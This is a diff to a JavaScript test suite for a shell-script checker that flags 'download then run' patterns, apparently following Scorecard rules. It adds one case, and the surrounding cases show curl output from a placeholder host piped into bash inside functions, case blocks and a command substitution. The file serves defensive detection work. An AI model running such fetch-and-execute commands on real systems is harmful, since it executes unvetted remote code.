@@ -78,6 +78,7 @@ describe('shell: download then run (Scorecard rules)', () => {
     ['function f {\n  curl https://e.com/i | bash\n}\nf', [], 1],
     ['g() { curl https://e.com/i | bash; }', [], 1],
     ['case "$1" in\n  a) curl https://e.com/i | bash;;\nesac', [], 1],
+    ['x=$(case "$1" in a) curl https://e.com/i | bash;; esac)', [], 1],
     ['while read l; do echo "$l"; done < f\n{ echo; } > out', [], 0],
   ];
   for (const [script, errors, found] of structure) {
